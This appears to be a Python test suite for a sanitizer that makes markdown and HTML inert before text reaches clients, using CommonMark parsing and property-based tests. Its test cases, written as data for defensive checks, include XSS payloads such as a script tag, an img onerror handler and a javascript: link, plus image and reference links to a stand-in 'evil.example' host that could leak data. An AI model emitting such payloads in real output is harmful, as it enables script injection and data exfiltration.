"""What goes out to clients can load and run nothing; a CommonMark parser is the judge."""

from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from orc.documents.inert import InertText

ACTIVE = {"html_block", "html_inline", "image", "link_open"}


def inert(*pieces: str) -> str:
    stream = InertText()
    return "".join(map(stream.feed, pieces))


def kinds(tokens: list[Token]) -> Iterator[str]:
    for token in tokens:
        yield token.type
        yield from kinds(token.children or [])


def active(text: str) -> set[str]:
    """What a client that renders CommonMark finds to load, run or follow."""
    return ACTIVE & set(kinds(MarkdownIt("commonmark").parse(text)))


@pytest.mark.req("SE-07")
@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("![chart](https://evil.example/?q=4200)", "![chart] (https://evil.example/?q=4200)"),
        ("[the lease](javascript:alert(1))", "[the lease] (javascript:alert(1))"),
        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<!-- note --> <?php ?>", "< !-- note --> < ?php ?>"),
        ("<https://evil.example>", "< https://evil.example>"),
        ("![a][b]\n\n[b]: https://evil.example", "![a][b]\n\n[b] : https://evil.example"),
        ("It rose [1].\n\n[1]: https://evil.example", "It rose [1].\n\n[1] : https://evil.example"),
        ("> [a\nb]: https://evil.example\n\n[a b]", "> [a\nb] : https://evil.example\n\n[a b]"),
        ("`<b>` and ``` <b>", "`< b>` and ``` < b>"),
    ],
)
def test_what_would_load_or_run_is_taken_apart(text: str, sent: str) -> None:
    assert inert(text) == sent
    assert not active(sent)


@pytest.mark.req("SE-07")
@pytest.mark.parametrize(
    "text",
    [
        "The rent is < 5,000 and > 4,000 euros, i.e. a<5 (see [1]): fine.",
        "As [1][2] say: **all** of it, `code`, # and | tables |.",
        "See https://example.org/terms and [1]: it is so.",
        "```html\n<b>[a](b)</b>\n[c]: d\n```\nand `x`",
        "````\n```\n````\n",
    ],
)
def test_other_text_and_fenced_code_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@pytest.mark.req("SE-07")
@pytest.mark.parametrize(
    "text",
    [
        "- a\n  ```\n<b>x</b>",
        "> ```\n<b>x</b>",
        "~~~\n```\n~~~\n<b>x</b>",
        "```\na\n``` b\n```\n<b>x</b>",
        "```\n    ```\n```\n<b>x</b>",
        "``` `a`\n<b>x</b>",
        "````\n```\n````\n<b>x</b>",
        "```\ra\r```\r<b>x</b>",
        "`a\n\n<b>`x`",
    ],
)
def test_what_only_looks_like_code_hides_nothing(text: str) -> None:
    assert "< b>" in inert(text)
    assert not active(inert(text))


MARKUP = "![ [ ] ]( ]: ( ) : < > <b <b> </b> <!-- --> <a:b> ` `` ``` ```` ~~~ \\ \n \n\n \r ! - > 1. a http: [1] | \t"
PARTS = [" ", "    ", *MARKUP.split(" ")]
TEXTS = st.lists(st.sampled_from(PARTS), max_size=24).map("".join)


@pytest.mark.req("SE-07")
@example("```\n<b>")
@given(TEXTS)
def test_no_text_becomes_active_content(text: str) -> None:
    assert not active(inert(text))


@given(TEXTS, st.data())
def test_where_a_text_is_split_changes_nothing(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert inert(*pieces) == inert(text) == inert(*text)
    assert inert(inert(text)) == inert(text)


@given(TEXTS)
def test_only_spaces_are_added(text: str) -> None:
    assert inert(text).replace(" ", "") == text.replace(" ", "")
